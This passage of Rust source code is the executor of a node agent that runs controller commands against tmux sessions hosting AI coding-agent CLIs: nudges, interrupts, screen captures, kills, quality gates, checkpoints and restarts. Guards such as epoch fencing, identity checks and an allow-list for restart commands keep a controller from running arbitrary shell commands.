//! Executes the controller's commands, safely: fenced by epoch and id, refused after their
//! deadline or when the agent they were meant for is gone, targeted by tmux ids only (`$N`,
//! `%N`), resolved and checked against the session's name right before the action.

use std::collections::HashMap;
use std::sync::Arc;
use std::time::{Duration, Instant};

use argus_proto::v1 as pb;
use argus_shared::command::Action;
use argus_shared::profile::{Condition, Profiles};
use argus_shared::time::{local_utc_offset_secs, now_ms};
use rustix::process::Signal;
use tokio::sync::{Mutex, watch};

use crate::checkpoint::{self, CheckpointConfig};
use crate::fence::{Fence, FenceError};
use crate::probe::Snapshot;
use crate::procs;
use crate::tmux::{CreateError, TargetError, Tmux};
use argus_shared::command::{shell_command_from_tmux, split_tmux_command};

/// Most processes signalled in one kill.
const KILL_TREE_LIMIT: usize = 512;

/// Runs commands against the node's tmux servers.
pub struct Executor {
    servers: HashMap<String, Arc<Tmux>>,
    fence: Arc<Mutex<Fence>>,
    snapshot: watch::Receiver<Arc<Snapshot>>,
    profiles: Arc<Profiles>,
    keys: Keyboard,
    /// Restart commands each session may be restarted with (see [`RestartGuard`]).
    restarts: Arc<RestartGuard>,
    checkpoints: CheckpointConfig,
}

/// How a command ended on the node.
struct Outcome {
    status: pb::CommandStatus,
    message: String,
    output: String,
    delivery: pb::Delivery,
    /// A gate's exit status and whether it ran past its limit.
    gate: Option<(i32, bool)>,
    /// The checkpoint taken before a kill or restart, or on demand.
    checkpoint: Option<pb::Checkpoint>,
}

impl From<(pb::CommandStatus, String, String)> for Outcome {
    fn from((status, message, output): (pb::CommandStatus, String, String)) -> Self {
        Self {
            status,
            message,
            output,
            delivery: pb::Delivery::Unspecified,
            gate: None,
            checkpoint: None,
        }
    }
}

impl Executor {
    /// An executor over `servers` (by socket path).
    pub fn new(
        servers: &[Arc<Tmux>],
        fence: Arc<Mutex<Fence>>,
        snapshot: watch::Receiver<Arc<Snapshot>>,
        profiles: Arc<Profiles>,
    ) -> Self {
        let snapshot_for_guard = snapshot.clone();
        Self {
            servers: servers
                .iter()
                .map(|t| (t.socket().display().to_string(), t.clone()))
                .collect(),
            fence,
            snapshot,
            profiles,
            keys: Keyboard::default(),
            restarts: RestartGuard::watch(false, snapshot_for_guard, None),
            checkpoints: CheckpointConfig::default(),
        }
    }

    /// How checkpoints are taken before kills and restarts (the node agent's `[checkpoint]`).
    pub fn with_checkpoints(mut self, config: CheckpointConfig) -> Self {
        self.checkpoints = config;
        self
    }

    /// Obey restarts with any command (`allow_any_restart_command`), not only the session's own;
    /// without, remember the sessions' own commands in `state_dir` across restarts.
    #[must_use]
    pub fn allowing_any_restart_command(
        mut self,
        allow: bool,
        state_dir: Option<&std::path::Path>,
    ) -> Self {
        let path = state_dir.map(|d| d.join(RESTART_MEMORY_FILE));
        self.restarts = RestartGuard::watch(allow, self.snapshot.clone(), path);
        self
    }

    /// Checks and executes one command; never fails, the outcome is in the result.
    pub async fn execute(&self, cmd: pb::Command) -> pb::CommandResult {
        let id = cmd.command_id.clone();
        let Outcome {
            status,
            message,
            output,
            delivery,
            gate,
            checkpoint,
        } = self.check_and_run(cmd).await;
        if status != pb::CommandStatus::Ok {
            tracing::info!(command = %id, status = ?status, %message, "command refused or failed");
        }
        pb::CommandResult {
            command_id: id,
            status: status as i32,
            message,
            output,
            delivery: delivery as i32,
            gate_exit: gate.map_or(0, |(exit, _)| exit),
            gate_timed_out: gate.is_some_and(|(_, timed_out)| timed_out),
            checkpoint,
        }
    }

    async fn check_and_run(&self, cmd: pb::Command) -> Outcome {
        use pb::CommandStatus as S;
        let refuse = |s: S, m: String| Outcome::from((s, m, String::new()));
        if cmd.command_id.is_empty() {
            return refuse(S::Invalid, "command has no id".into());
        }
        match self.fence.lock().await.admit(&cmd.command_id, cmd.epoch) {
            Ok(()) => {}
            Err(e @ FenceError::Stale { .. }) => return refuse(S::StaleEpoch, e.to_string()),
            Err(e @ FenceError::Duplicate(_)) => return refuse(S::Duplicate, e.to_string()),
        }
        if now_ms() > cmd.not_after_ms {
            return refuse(
                S::Expired,
                format!("deadline {} ms passed", cmd.not_after_ms),
            );
        }
        let action = match cmd.action.map(Action::try_from) {
            Some(Ok(a)) => a,
            Some(Err(e)) => return refuse(S::Invalid, e.to_string()),
            None => return refuse(S::Invalid, "command has no action".into()),
        };
        if let Action::Restart { command, .. } = &action
            && let Err(why) = self
                .restarts
                .check(&cmd.tmux_socket, &cmd.session_name, command)
        {
            return refuse(S::Declined, why);
        }
        let socket = if cmd.tmux_socket.is_empty() && self.servers.len() == 1 {
            self.servers.keys().next().cloned().unwrap_or_default()
        } else {
            cmd.tmux_socket.clone()
        };
        let Some(tmux) = self.servers.get(&socket).cloned() else {
            return refuse(
                S::NoSuchSession,
                format!("tmux server {socket:?} is not watched by this node agent"),
            );
        };
        let session = self
            .snapshot
            .borrow()
            .sessions
            .get(&(socket.clone(), cmd.session_name.clone()))
            .cloned();
        let Some(session) = session else {
            // Only a restart may target a session that is gone: it creates it anew.
            if let Action::Restart {
                command,
                cwd,
                labels,
                ..
            } = &action
            {
                let checkpoint = self
                    .checkpoint_of_gone(&socket, &cmd.session_name, cwd, labels)
                    .await;
                return self
                    .recreate(&tmux, &cmd.session_name, command, cwd, labels)
                    .await
                    .with_checkpoint(checkpoint);
            }
            return refuse(
                S::NoSuchSession,
                format!("no session named {:?} on {socket}", cmd.session_name),
            );
        };
        if let Some(want) = &cmd.incarnation
            && !matches_incarnation(&session, want)
        {
            return refuse(
                S::WrongIncarnation,
                format!(
                    "agent pid {} (start {}) is no longer the agent of session {:?}",
                    want.pid, want.start_time, cmd.session_name
                ),
            );
        }
        if let Err(refused) = self.check_target(&tmux, &session, &cmd.session_name).await {
            // A restart of a session that vanished a moment ago creates it anew.
            if let (
                TargetError::Gone { .. },
                Action::Restart {
                    command,
                    cwd,
                    labels,
                    ..
                },
            ) = (&refused, &action)
            {
                let checkpoint = self
                    .checkpoint_of_gone(&socket, &cmd.session_name, cwd, labels)
                    .await;
                return self
                    .recreate(&tmux, &cmd.session_name, command, cwd, labels)
                    .await
                    .with_checkpoint(checkpoint);
            }
            return refused_target(refused);
        }
        if let Action::Restart {
            replaces_pane_pid: want,
            ..
        } = &action
            && *want != 0
            && let Some(now) = pane_pid_now(&tmux, &session.pane_id).await
            && now != *want
        {
            return refuse(
                S::WrongIncarnation,
                format!(
                    "session {:?} was started again since this restart was decided (pane process {now}, the restart was for {want}): not restarted twice",
                    cmd.session_name
                ),
            );
        }
        let checkpoint = self.checkpoint_before(&tmux, &session, &action).await;
        let restart = match &action {
            Action::Restart {
                command,
                cwd,
                labels,
                ..
            } => Some((command.clone(), cwd.clone(), labels.clone())),
            _ => None,
        };
        let outcome: Outcome = match self.run(&tmux, &session, action, cmd.at_rest).await {
            Ok(ended) => ended.into(),
            // The session closed between the last probe and this restart (its agent died a
            // moment ago): create it anew instead.
            Err(e)
                if restart.is_some() && (e.contains("can't find") || e.contains("no server")) =>
            {
                let (command, cwd, labels) = restart.unwrap_or_default();
                self.recreate(&tmux, &cmd.session_name, &command, &cwd, &labels)
                    .await
            }
            Err(e) => (S::Failed, e, String::new()).into(),
        };
        outcome.with_checkpoint(checkpoint)
    }

    /// The checkpoint a kill, a restart or a checkpoint command takes first (a kill or restart
    /// only when `checkpoint.enabled`), bounded by `checkpoint.timeout`.
    async fn checkpoint_before(
        &self,
        tmux: &Tmux,
        s: &pb::SessionObservation,
        action: &Action,
    ) -> Option<pb::Checkpoint> {
        let trigger = match action {
            Action::Checkpoint => "manual",
            Action::Kill { .. } if self.checkpoints.enabled => "kill",
            Action::Restart { .. } if self.checkpoints.enabled => "restart",
            _ => return None,
        };
        let target = checkpoint::Target::observed(s, trigger);
        let c = checkpoint::take(Some(tmux), &target, &self.checkpoints).await;
        tracing::info!(session = %s.session_name, trigger, took_ms = c.took_ms, "{}", checkpoint::summary(&c));
        Some(c)
    }

    /// The checkpoint a restart of a session that is gone takes first: no screen, but the git
    /// work tree of the directory it is restarted in.
    async fn checkpoint_of_gone(
        &self,
        socket: &str,
        name: &str,
        cwd: &str,
        labels: &std::collections::BTreeMap<String, String>,
    ) -> Option<pb::Checkpoint> {
        if !self.checkpoints.enabled {
            return None;
        }
        let target = checkpoint::Target {
            tmux_socket: socket.to_owned(),
            session_name: name.to_owned(),
            cwd: cwd.to_owned(),
            labels: labels.clone(),
            profile: labels
                .get(argus_shared::labels::PROFILE)
                .cloned()
                .unwrap_or_default(),
            trigger: "restart",
            ..checkpoint::Target::default()
        };
        let c = checkpoint::take(None, &target, &self.checkpoints).await;
        tracing::info!(session = %name, took_ms = c.took_ms, "{}", checkpoint::summary(&c));
        Some(c)
    }

    async fn run(
        &self,
        tmux: &Tmux,
        s: &pb::SessionObservation,
        action: Action,
        at_rest: bool,
    ) -> Result<Ended, String> {
        let pane = s.pane_id.as_str();
        let e = |e: crate::tmux::TmuxError| e.to_string();
        match action {
            Action::Nudge { text } => self.nudge(tmux, s, &text, at_rest).await,
            Action::Interrupt => self.interrupt(tmux, s).await,
            Action::Capture { lines } => {
                let text = tmux.capture(pane, lines).await.map_err(e)?;
                Ok(Ended::Output(
                    argus_shared::screen::last_lines(&text, lines as usize).to_owned(),
                ))
            }
            // Never while keys are being typed into the pane (a nudge's second submit would
            // land in the next agent): kills and restarts wait for the pane's keyboard.
            Action::Kill { grace_ms } => {
                let _typing = self.keys.hold(tmux, pane).await;
                self.kill(tmux, s, grace_ms).await.map(Ended::Output)
            }
            Action::Gate {
                command,
                timeout_ms,
            } => match self.gate_refused(s, &command) {
                Some(why) => Ok(Ended::Declined(why)),
                None => Self::gate(s, &command, timeout_ms).await,
            },
            // Taken by `checkpoint_before`, as for a kill or a restart.
            Action::Checkpoint => Ok(Ended::Output(String::new())),
            Action::Restart { command, .. } => {
                let _typing = self.keys.hold(tmux, pane).await;
                let argv = restart_argv(&command, s, &self.profiles);
                tmux.respawn_pane(pane, &argv)
                    .await
                    .map(|()| Ended::Output(String::new()))
                    .map_err(e)
            }
        }
    }

    /// Types a nudge and confirms it: the profile's pause, its submit keys, then the screen is
    /// read until the text has left the input box (or the screen moved on); if it has not,
    /// submit is pressed once more. Delivered: `Ok`; still in the box: `NotDelivered`.
    async fn nudge(
        &self,
        tmux: &Tmux,
        s: &pb::SessionObservation,
        text: &str,
        at_rest: bool,
    ) -> Result<Ended, String> {
        let pane = s.pane_id.as_str();
        let profile = self.profile(s);
        let e = |e: crate::tmux::TmuxError| e.to_string();
        let _typing = self.keys.hold(tmux, pane).await;
        // The pane may have been started again while this nudge waited for its keyboard.
        if let Some(now) = pane_pid_now(tmux, pane).await
            && s.pane_pid != 0
            && now != s.pane_pid
        {
            return Ok(Ended::Declined(format!(
                "declined: the pane was started again (process {now}, was {}) before this nudge could be typed",
                s.pane_pid
            )));
        }
        if at_rest {
            let screen = tmux.capture(pane, CONFIRM_LINES).await.map_err(e)?;
            let seen = profile.classify(&screen, now_ms() / 1000, local_utc_offset_secs());
            if matches!(
                seen.condition,
                Condition::Thinking | Condition::WaitingPermission | Condition::Dialog
            ) {
                return Ok(Ended::Declined(format!(
                    "declined: the screen shows the agent {} now; the policy's nudge was for an agent at rest ({} profile)",
                    seen.condition.as_str(),
                    profile.name
                )));
            }
            // New output on a screen that says nothing recognised (a build's log, a streamed
            // answer without a status line) is work too: look twice. Not at a rate limit, whose
            // screen may count down and whose resume nudge is wanted.
            if seen.condition != Condition::RateLimited {
                tokio::time::sleep(AT_REST_LOOK).await;
                let again = tmux.capture(pane, CONFIRM_LINES).await.map_err(e)?;
                if profile.masked(&screen) != profile.masked(&again) {
                    return Ok(Ended::Declined(format!(
                        "declined: the screen shows new output; the policy's nudge was for an agent at rest ({} profile)",
                        profile.name
                    )));
                }
            }
        }
        tmux.send_literal(pane, text).await.map_err(e)?;
        // Some TUIs take an Enter that arrives right behind pasted text as part of the paste
        // (Codex, Gemini CLI): the profile says how long to let the text settle first.
        tokio::time::sleep(profile.submit_delay()).await;
        let typed = tmux.capture(pane, CONFIRM_LINES).await.map_err(e)?;
        for attempt in 1..=2 {
            for key in profile.submit_keys() {
                tmux.send_key(pane, key).await.map_err(e)?;
            }
            let deadline = Instant::now() + CONFIRM_WITHIN;
            loop {
                tokio::time::sleep(CONFIRM_POLL).await;
                let screen = tmux.capture(pane, CONFIRM_LINES).await.map_err(e)?;
                if let Some(how) = left_the_box(profile, &typed, &screen, text) {
                    let again = if attempt > 1 {
                        ", after submit was pressed again"
                    } else {
                        ""
                    };
                    return Ok(Ended::Delivered(format!("delivered: {how}{again}")));
                }
                if Instant::now() >= deadline {
                    break;
                }
            }
        }
        Ok(Ended::NotDelivered(format!(
            "not delivered: the text still sits in the input box after submit was pressed twice ({} profile)",
            profile.name
        )))
    }

    /// Why a gate command is refused: like a restart's command, only the session's own
    /// `@argus-gate` label runs unless the node allows any command, so that a controller (or a
    /// policy) cannot run arbitrary shell on the host by default.
    fn gate_refused(&self, s: &pb::SessionObservation, command: &str) -> Option<String> {
        let own = s.labels.get(argus_shared::labels::GATE).map(String::as_str);
        if self.restarts.allow_any || own == Some(command) {
            return None;
        }
        Some(format!(
            "gate command {command:?} is not session {:?}'s own @argus-gate label; this node runs other gate commands only with allow_any_restart_command",
            s.session_name
        ))
    }

    /// Runs the session's quality gate in its working directory (the pane's current path);
    /// the controller judges the outcome.
    async fn gate(
        s: &pb::SessionObservation,
        command: &str,
        timeout_ms: u32,
    ) -> Result<Ended, String> {
        if s.cwd.is_empty() {
            return Err(format!(
                "session {:?} has no known working directory to run its gate in",
                s.session_name
            ));
        }
        let timeout = Duration::from_millis(timeout_ms.into());
        tracing::info!(session = %s.session_name, cwd = %s.cwd, %command, "running quality gate");
        let run = crate::gate::run(command, std::path::Path::new(&s.cwd), timeout)
            .await
            .map_err(|e| e.to_string())?;
        tracing::info!(session = %s.session_name, exit = run.exit, timed_out = run.timed_out, took_ms = run.took.as_millis() as u64, "quality gate ended");
        Ok(Ended::Gate(run))
    }

    /// Sends the profile's interrupt keys, after the last safety check: never at an idle
    /// prompt (there is nothing to interrupt, and C-c there exits some CLIs) and never a second
    /// time within the CLI's "press again to exit" window.
    async fn interrupt(&self, tmux: &Tmux, s: &pb::SessionObservation) -> Result<Ended, String> {
        let pane = s.pane_id.as_str();
        let profile = self.profile(s);
        let e = |e: crate::tmux::TmuxError| e.to_string();
        let _typing = self.keys.hold(tmux, pane).await;
        let window = profile.interrupt_window();
        if let Some(ago) = self.keys.since_interrupt(tmux, pane)
            && ago < window
        {
            return Ok(Ended::Declined(format!(
                "declined: an interrupt was sent {} ms ago, and a second one within {} ms could end the agent ({} profile)",
                ago.as_millis(),
                window.as_millis(),
                profile.name
            )));
        }
        let screen = tmux.capture(pane, CONFIRM_LINES).await.map_err(e)?;
        let seen = profile.classify(&screen, now_ms() / 1000, local_utc_offset_secs());
        if seen.condition == Condition::AtPrompt {
            return Ok(Ended::Declined(format!(
                "declined: the agent is at its prompt, there is nothing to interrupt ({} profile)",
                profile.name
            )));
        }
        for key in profile.interrupt_keys() {
            tmux.send_key(pane, key).await.map_err(e)?;
        }
        self.keys.interrupted(tmux, pane);
        Ok(Ended::Output(String::new()))
    }

    /// The profile the session is read with (its own, else the generic one).
    fn profile(&self, s: &pb::SessionObservation) -> &argus_shared::profile::Profile {
        self.profiles
            .get(&s.profile)
            .unwrap_or_else(|| self.profiles.generic())
    }

    async fn recreate(
        &self,
        tmux: &Tmux,
        name: &str,
        command: &str,
        cwd: &str,
        labels: &std::collections::BTreeMap<String, String>,
    ) -> Outcome {
        if command.is_empty() {
            return (
                pb::CommandStatus::NoSuchSession,
                format!(
                    "session {name:?} is gone and the restart names no command to start it with"
                ),
                String::new(),
            )
                .into();
        }
        let key = (tmux.socket().display().to_string(), name.to_owned());
        // Its previous size, not tmux's 80x24: TUIs lay out their screen at start.
        let size = self.snapshot.borrow().window_size(&key);
        let command = recreate_command(command, labels, &self.profiles);
        match tmux
            .create_session(name, cwd, std::slice::from_ref(&command), labels, size)
            .await
        {
            Ok(id) => (
                pb::CommandStatus::Ok,
                match size {
                    Some((w, h)) => format!("session {name:?} created anew ({id}) at {w}x{h}"),
                    None => format!("session {name:?} created anew ({id})"),
                },
                String::new(),
            )
                .into(),
            Err(err @ CreateError::Name(_)) => {
                (pb::CommandStatus::Invalid, err.to_string(), String::new()).into()
            }
            Err(err) => (pb::CommandStatus::Failed, err.to_string(), String::new()).into(),
        }
    }

    /// Checks, right before acting, that the session observed as `s` is still there under its
    /// ids: its pane `%N` in its session `$N`, and that session still named `name`.
    async fn check_target(
        &self,
        tmux: &Tmux,
        s: &pb::SessionObservation,
        name: &str,
    ) -> Result<(), TargetError> {
        tmux.resolve(&s.session_id, &s.pane_id, name)
            .await
            .map(drop)
    }

    /// SIGTERM to the pane's process tree, SIGKILL after `grace_ms`, then the session by its id,
    /// if it is still the same session on the same server (it usually closes by itself when its
    /// last process ends). Runs to the end once started, whatever happens to the link.
    async fn kill(
        &self,
        tmux: &Tmux,
        s: &pb::SessionObservation,
        grace_ms: u32,
    ) -> Result<String, String> {
        let target = match tmux
            .resolve(&s.session_id, &s.pane_id, &s.session_name)
            .await
        {
            Ok(t) => t,
            // Closed since the check: that is the goal.
            Err(TargetError::Gone { .. }) => return Ok(String::new()),
            Err(e) => return Err(e.to_string()),
        };
        if !s.pane_dead {
            tracing::info!(session = %s.session_name, id = %target.session_id, pane = %target.pane_id, pid = s.pane_pid, grace_ms, "kill: SIGTERM to the pane's process tree, SIGKILL after the grace");
            terminate_tree(s.pane_pid, Duration::from_millis(grace_ms.into())).await;
        }
        tmux.kill_target(&target)
            .await
            .map(|_| String::new())
            .map_err(|e| e.to_string())
    }
}

/// The outcome of a command whose target did not check out.
fn refused_target(e: TargetError) -> Outcome {
    let status = match &e {
        TargetError::Gone { .. } | TargetError::Renamed { .. } | TargetError::NoIds { .. } => {
            pb::CommandStatus::NoSuchSession
        }
        TargetError::PaneGone { .. } => pb::CommandStatus::WrongIncarnation,
        TargetError::Tmux(_) => pb::CommandStatus::Failed,
    };
    (status, e.to_string(), String::new()).into()
}

/// How long a nudge for an agent at rest watches the screen for new output first.
const AT_REST_LOOK: Duration = Duration::from_millis(300);

/// The pane's process now, asked of tmux (not the last snapshot, which may be older than a
/// restart that just ran); `None` when tmux cannot say.
async fn pane_pid_now(tmux: &Tmux, pane_id: &str) -> Option<u32> {
    tmux.run(&["display-message", "-p", "-t", pane_id, "#{pane_pid}"])
        .await
        .ok()?
        .first()?
        .trim()
        .parse()
        .ok()
}

/// True when `want` is the session's current agent (or, without one, its pane process) and it
/// still runs.
fn matches_incarnation(s: &pb::SessionObservation, want: &pb::Incarnation) -> bool {
    let current = s.agent.as_ref().map(|a| (a.pid, a.start_time));
    let is_current = current == Some((want.pid, want.start_time))
        || (current.is_none() && s.pane_pid == want.pid);
    is_current && procs::alive(want.pid, want.start_time)
}

/// The argv for respawn-pane: the given command, else `@argus-restart`, else the pane's own start
/// command; a single string is run by tmux through the shell. A recognised agent started again
/// from its own start command (none given, or the one the controller derives from it) resumes
/// its conversation in its CLI's own form (`claude --continue`, `codex resume --last`); a
/// command of the operator's (`@argus-restart`, or any other) is taken as it is.
fn restart_argv(command: &str, s: &pb::SessionObservation, profiles: &Profiles) -> Vec<String> {
    let label = s
        .labels
        .get(argus_shared::labels::RESTART)
        .filter(|l| !l.is_empty());
    let own = shell_command_from_tmux(&s.start_command);
    let from_start = if command.is_empty() {
        label.is_none()
    } else {
        command == own && label.is_none_or(|l| l != command)
    };
    let profile = agent_profile(s, profiles);
    if from_start && let Some(profile) = profile.filter(|p| p.resume().is_some()) {
        return vec![profile.resume_command(&own)];
    }
    if !command.is_empty() {
        return vec![never_a_picker(command, profile, profiles)];
    }
    if let Some(label) = label {
        return vec![never_a_picker(label, profile, profiles)];
    }
    split_tmux_command(&s.start_command)
}

/// Defence in depth: without the node's explicit opt-in, a restart may only use the session's
/// own command (its `@argus-restart` label or its pane's start command), as this node saw them,
/// so that a compromised controller is not a remote shell on every host. The commands of
/// sessions that vanished are remembered (at most [`RESTART_MEMORY`]), for the restart that
/// creates one anew.
pub struct RestartGuard {
    allow_any: bool,
    /// Allowed commands by (tmux socket, session name), from the node's own observations.
    known: std::sync::Mutex<HashMap<(String, String), Vec<String>>>,
    /// Where the memory is kept across node agent restarts (`STATE_DIR/restart-commands.json`):
    /// a session whose agent died while the node agent was down, with its tmux session, is
    /// created anew with a command this node agent saw, not with one it never did.
    path: Option<std::path::PathBuf>,
}

/// The guard's file in the state dir.
pub const RESTART_MEMORY_FILE: &str = "restart-commands.json";

/// Most sessions whose restart commands are remembered.
const RESTART_MEMORY: usize = 10_000;

impl RestartGuard {
    fn watch(
        allow_any: bool,
        snapshot: watch::Receiver<Arc<Snapshot>>,
        path: Option<std::path::PathBuf>,
    ) -> Arc<Self> {
        let known = path.as_deref().map(Self::load).unwrap_or_default();
        let guard = Arc::new(Self {
            allow_any,
            known: std::sync::Mutex::new(known),
            path,
        });
        if !allow_any {
            Self::follow(&guard, snapshot);
        }
        guard
    }

    /// Learns every snapshot's sessions until the prober stops (its sender drops), or this
    /// guard is dropped.
    fn follow(guard: &Arc<Self>, mut snapshot: watch::Receiver<Arc<Snapshot>>) {
        let weak = Arc::downgrade(guard);
        let first = guard.learn(&snapshot.borrow_and_update());
        let Ok(rt) = tokio::runtime::Handle::try_current() else {
            return;
        };
        // Ends with the snapshot's sender (the prober), or when the executor is gone.
        rt.spawn(async move {
            if first && let Some(guard) = weak.upgrade() {
                guard.save().await;
            }
            while snapshot.changed().await.is_ok() {
                let Some(guard) = weak.upgrade() else { break };
                let snap = snapshot.borrow_and_update().clone();
                if guard.learn(&snap) {
                    guard.save().await;
                }
            }
        });
    }

    /// Learns a snapshot's sessions; true when something new was learnt.
    fn learn(&self, snap: &Snapshot) -> bool {
        let Ok(mut known) = self.known.lock() else {
            return false;
        };
        let mut changed = false;
        for ((socket, name), s) in &snap.sessions {
            let start = shell_command_from_tmux(&s.start_command);
            // The core restarts an agent that reported its conversation in the form that
            // resumes it (`claude --resume <id>`): that is still the session's own command.
            let resumed = (!s.agent_session_id.is_empty())
                .then(|| argus_shared::profile::builtin_profile(&s.profile))
                .flatten()
                .and_then(|p| p.resume_with_id(&start, &s.agent_session_id));
            let mut allowed = vec![start];
            allowed.extend(resumed);
            if let Some(l) = s
                .labels
                .get(argus_shared::labels::RESTART)
                .filter(|l| !l.is_empty())
            {
                allowed.push(l.clone());
            }
            if known.len() >= RESTART_MEMORY && !known.contains_key(&(socket.clone(), name.clone()))
            {
                continue;
            }
            let key = (socket.clone(), name.clone());
            if known.get(&key) != Some(&allowed) {
                known.insert(key, allowed);
                changed = true;
            }
        }
        changed
    }

    /// The memory kept in `path`; empty when there is none or it cannot be read (then the
    /// guard learns again from what it sees).
    fn load(path: &std::path::Path) -> HashMap<(String, String), Vec<String>> {
        let Ok(text) = std::fs::read_to_string(path) else {
            return HashMap::new();
        };
        match serde_json::from_str::<Vec<(String, String, Vec<String>)>>(&text) {
            Ok(rows) => rows
                .into_iter()
                .take(RESTART_MEMORY)
                .map(|(socket, name, cmds)| ((socket, name), cmds))
                .collect(),
            Err(e) => {
                tracing::warn!(path = %path.display(), error = %e, "restart memory unreadable: starting afresh");
                HashMap::new()
            }
        }
    }

    /// Writes the memory to `path` (a temporary file renamed over it), off the runtime.
    async fn save(&self) {
        let Some(path) = self.path.clone() else {
            return;
        };
        let rows: Vec<(String, String, Vec<String>)> = match self.known.lock() {
            Ok(known) => known
                .iter()
                .map(|((s, n), c)| (s.clone(), n.clone(), c.clone()))
                .collect(),
            Err(_) => return,
        };
        let written = tokio::task::spawn_blocking(move || -> std::io::Result<()> {
            let text = serde_json::to_vec(&rows).map_err(std::io::Error::other)?;
            let tmp = path.with_extension("json.tmp");
            std::fs::write(&tmp, text)?;
            std::fs::rename(&tmp, &path)
        })
        .await;
        if let Ok(Err(e)) = written {
            tracing::warn!(error = %e, "restart memory not saved");
        }
    }

    /// `Err` with the reason when `command` is not one this session may restart with.
    fn check(&self, socket: &str, name: &str, command: &str) -> Result<(), String> {
        if self.allow_any || command.is_empty() {
            return Ok(());
        }
        let known = self
            .known
            .lock()
            .map_err(|_| "restart guard poisoned".to_owned())?;
        let allowed = known
            .iter()
            .filter(|((s, n), _)| n == name && (socket.is_empty() || s == socket))
            .any(|(_, cmds)| cmds.iter().any(|c| c == command));
        if allowed {
            Ok(())
        } else {
            Err(format!(
                "restart command {command:?} is neither session {name:?}'s @argus-restart label \
                 nor its start command; this node agent runs other commands only when started \
                 with --allow-any-restart-command"
            ))
        }
    }
}

/// The command a session created anew starts with: the agent's own start command in its
/// resume form, or the operator's `@argus-restart` as written (but never a picker form).
fn recreate_command(
    command: &str,
    labels: &std::collections::BTreeMap<String, String>,
    profiles: &Profiles,
) -> String {
    let label = labels
        .get(argus_shared::labels::RESTART)
        .filter(|l| !l.is_empty());
    let profile = profiles.match_command(command).or_else(|| {
        labels
            .get(argus_shared::labels::PROFILE)
            .and_then(|p| profiles.get(p))
            .filter(|p| p.name != argus_shared::profile::GENERIC)
    });
    match profile.filter(|p| p.resume().is_some()) {
        Some(p) if label.is_none_or(|l| l != command) => p.resume_command(command),
        _ => never_a_picker(command, profile, profiles),
    }
}

/// `command` as written, unless it would open the agent's interactive session picker (`claude
/// --resume`, `codex resume`), which waits for a person: then its non-interactive resume form.
fn never_a_picker(
    command: &str,
    profile: Option<&argus_shared::profile::Profile>,
    profiles: &Profiles,
) -> String {
    match profiles.match_command(command).or(profile) {
        Some(p) if p.without_picker(command) != command => p.resume_command(command),
        _ => command.to_owned(),
    }
}

/// How a nudge's text left the input box, or `None` while it is still there: the box shows
/// without it, or (where no box shows) the screen moved on from how it looked with the text
/// typed.
fn left_the_box(
    profile: &argus_shared::profile::Profile,
    typed: &str,
    screen: &str,
    text: &str,
) -> Option<&'static str> {
    match profile.draft_in_box(screen, text) {
        Some(true) => None,
        Some(false) => Some("the text left the input box"),
        None if screen != typed => Some("the screen moved on"),
        None => None,
    }
}

/// Lines read to confirm a nudge or check an interrupt (the probe's window and some more).
const CONFIRM_LINES: u32 = 50;
/// How long a submit gets to take the text out of the box.
const CONFIRM_WITHIN: Duration = Duration::from_millis(1500);
const CONFIRM_POLL: Duration = Duration::from_millis(100);

/// How an action that tmux carried out ended; each maps to the result's status and delivery.
enum Ended {
    /// Done; the output (capture only).
    Output(String),
    /// A nudge that was submitted; the message says how that was seen.
    Delivered(String),
    /// A nudge whose text stayed in the input box.
    NotDelivered(String),
    /// The last safety check declined (an interrupt at a prompt or within the window).
    Declined(String),
    /// A gate ran (whatever its exit status: judging it is the controller's).
    Gate(crate::gate::GateRun),
}

impl From<Ended> for Outcome {
    fn from(ended: Ended) -> Self {
        use pb::CommandStatus as S;
        let (status, message, output, delivery, gate) = match ended {
            Ended::Output(out) => (S::Ok, String::new(), out, pb::Delivery::Unspecified, None),
            Ended::Delivered(m) => (S::Ok, m, String::new(), pb::Delivery::Delivered, None),
            Ended::NotDelivered(m) => (
                S::Failed,
                m,
                String::new(),
                pb::Delivery::NotDelivered,
                None,
            ),
            Ended::Declined(m) => (
                S::Declined,
                m,
                String::new(),
                pb::Delivery::Unspecified,
                None,
            ),
            Ended::Gate(run) => (
                S::Ok,
                gate_message(&run),
                run.output,
                pb::Delivery::Unspecified,
                Some((run.exit, run.timed_out)),
            ),
        };
        Outcome {
            status,
            message,
            output,
            delivery,
            gate,
            checkpoint: None,
        }
    }
}

/// "gate exited with status 1 after 420 ms", for the audit.
fn gate_message(run: &crate::gate::GateRun) -> String {
    if run.timed_out {
        format!(
            "gate killed at its time limit after {} ms",
            run.took.as_millis()
        )
    } else {
        format!(
            "gate exited with status {} after {} ms",
            run.exit,
            run.took.as_millis()
        )
    }
}

impl Outcome {
    /// The outcome with the checkpoint taken before it, named in its message.
    fn with_checkpoint(mut self, checkpoint: Option<pb::Checkpoint>) -> Self {
        if let Some(c) = &checkpoint {
            let line = checkpoint::summary(c);
            self.message = if self.message.is_empty() {
                line
            } else {
                format!("{}; {line}", self.message)
            };
        }
        self.checkpoint = checkpoint;
        self
    }
}

/// Who is typing into which pane, and when each pane was last interrupted: one nudge or
/// interrupt at a time per pane, so that two never interleave their keys.
#[derive(Default)]
struct Keyboard {
    panes: std::sync::Mutex<HashMap<PaneKey, Arc<Mutex<()>>>>,
    interrupts: std::sync::Mutex<HashMap<PaneKey, Instant>>,
}

/// A pane on a tmux server: (socket path, pane id).
type PaneKey = (String, String);

impl Keyboard {
    fn key(tmux: &Tmux, pane: &str) -> PaneKey {
        (tmux.socket().display().to_string(), pane.to_owned())
    }

    /// Waits for the pane's keyboard and holds it until the guard drops.
    async fn hold(&self, tmux: &Tmux, pane: &str) -> tokio::sync::OwnedMutexGuard<()> {
        let lock = {
            let mut panes = self.panes.lock().unwrap_or_else(|p| p.into_inner());
            // Panes come and go: drop the locks nobody holds before the map grows.
            if panes.len() > 1024 {
                panes.retain(|_, l| Arc::strong_count(l) > 1);
            }
            panes.entry(Self::key(tmux, pane)).or_default().clone()
        };
        lock.lock_owned().await
    }

    fn since_interrupt(&self, tmux: &Tmux, pane: &str) -> Option<Duration> {
        let interrupts = self.interrupts.lock().unwrap_or_else(|p| p.into_inner());
        interrupts.get(&Self::key(tmux, pane)).map(Instant::elapsed)
    }

    fn interrupted(&self, tmux: &Tmux, pane: &str) {
        let mut interrupts = self.interrupts.lock().unwrap_or_else(|p| p.into_inner());
        // Entries older than any CLI's window are of no use any more.
        interrupts.retain(|_, at| at.elapsed() < Duration::from_secs(60));
        interrupts.insert(Self::key(tmux, pane), Instant::now());
    }
}

/// The session's agent profile, else the one its start command matches (the agent may have
/// died already, so its process is gone). None for the generic profile.
